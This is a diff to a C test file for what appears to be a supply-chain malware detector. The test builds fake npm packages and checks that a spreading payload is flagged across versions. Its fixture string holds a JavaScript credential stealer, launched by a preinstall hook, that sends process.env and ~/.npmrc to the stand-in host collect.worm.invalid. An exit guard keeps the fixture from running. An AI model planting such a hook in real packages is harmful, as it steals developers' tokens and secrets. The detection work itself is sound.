@@ -7,11 +7,15 @@
 
 #include "base/hash.h"
 #include "base/io.h"
+#include "campaign/shared.h"
 #include "campaign/sim.h"
 #include "campaign/tell.h"
 #include "event/event.h"
+#include "observe/analyse.h"
 #include "observe/imprint.h"
+#include "observe/scan.h"
 #include "store/versions.h"
+#include "tarball.h"
 #include "test.h"
 
 #define START INT64_C(1767225600000)
@@ -126,7 +130,8 @@ static int put(struct place *p)
                                                 .rules = QN_STR("1") } };
         int r;
 
-        ASSERT_EQ(qn_event_set_seal(&p->set), 0);
+        if (p->v.set == &p->set)
+                ASSERT_EQ(qn_event_set_seal(&p->set), 0);
         ASSERT_EQ(qn_db_begin(&p->db), 0);
         ASSERT_TRUE(qn_versions_put(&p->db, &put, &p->v.id) >= 0);
         r = qn_track_add(p->track, &p->db, &p->v, &p->news);
@@ -405,6 +410,76 @@ TEST(steps_of_growth)
         for (size_t i = 0; i < QN_ARRAY_SIZE(is); i++)
                 ASSERT_EQ(qn_track_step(is[i][0]), is[i][1]);
         ASSERT_EQ(qn_track_step(UINT32_MAX), 2000000000);
+}
+
+/* --- with archives --- */
+
+static void pack(struct qn_buf *b, unsigned i, const char *version, const char *hook,
+                 const char *added)
+{
+        _cleanup_(qn_buf_done) struct qn_buf text = QN_BUF_INIT(1 << 16);
+
+        qn_buf_printf(&text, "{\"name\":\"victim-%u\",\"version\":\"%s\"%s}", i, version, hook);
+        tb_file(b, "package/package.json", text.p);
+        qn_buf_reset(&text);
+        for (unsigned k = 0; k < 40; k++)
+                qn_buf_printf(&text, "exports.f%u = (x) => x.p%u + %u;\n", k * i, k, i);
+        tb_file(b, "package/index.js", text.p);
+        if (added)
+                tb_file(b, "package/bundle.js", added);
+        qn_buf_fill(b, 0, 1024);
+}
+
+static const char inert[] =
+        "if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
+        "const loot = JSON.stringify(process.env) +\n"
+        "  require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
+        "const q = require('https').request({ host: 'collect.worm.invalid', method: 'POST' });\n"
+        "q.write(loot); q.end();\n";
+
+static int update(struct place *p, struct qn_analyser *an, unsigned i, bool bad)
+{
+        _cleanup_(qn_buf_done) struct qn_buf before = QN_BUF_INIT(1 << 20),
+                                             now = QN_BUF_INIT(1 << 20);
+        struct qn_analyse_in in = { .imprint = true };
+        char name[32], who[32];
+
+        pack(&before, i, "1.0.0", "", NULL);
+        pack(&now, i, "1.0.1", bad ? ",\"scripts\":{\"preinstall\":\"node ./bundle.js\"}" : "",
+             bad ? inert : NULL);
+        in.archive = qn_cur_mem(now.p, now.n);
+        in.previous = qn_cur_mem(before.p, before.n);
+        snprintf(name, sizeof name, "victim-%u", i);
+        snprintf(who, sizeof who, "people-%u", i);
+        begin(p, name, "1.0.1", who, START + i * 60000);
+        ASSERT_EQ(qn_analyse(an, &in, &p->v.set), 0);
+        p->v.imprint = qn_analyser_imprint(an);
+        return put(p);
+}
+
+TEST(archives_that_a_payload_was_put_into)
+{
+        struct qn_shared shared;
+        struct qn_observers *o;
+        struct qn_analyser *an;
+        bool payload_told = false;
+
+        PLACE(p);
+        ASSERT_EQ(qn_observers_load(TEST_DATA, &o, NULL), 0);
+        ASSERT_EQ(qn_analyser_new(o, &an), 0);
+        for (unsigned i = 1; i < 10; i++)
+                ASSERT_EQ(update(&p, an, i, false), 0);
+        for (unsigned i = 11; i < 20; i++)
+                ASSERT_EQ(update(&p, an, i, true), i >= 15);
+        ASSERT_STR(p.news.rule, "spreading-addition");
+        ASSERT_EQ(p.news.packages, 9);
+        ASSERT_EQ(qn_shared_find(&p.db, qn_str_c(p.news.id), &p.a, &shared), 0);
+        for (size_t i = 0; i < shared.n; i++)
+                payload_told |= shared.things[i].kind == QN_FEATURE_PAYLOAD &&
+                                shared.things[i].versions == 9;
+        ASSERT_TRUE(payload_told);
+        qn_analyser_free(an);
+        qn_observers_free(o);
 }
 
 /* --- damage --- */
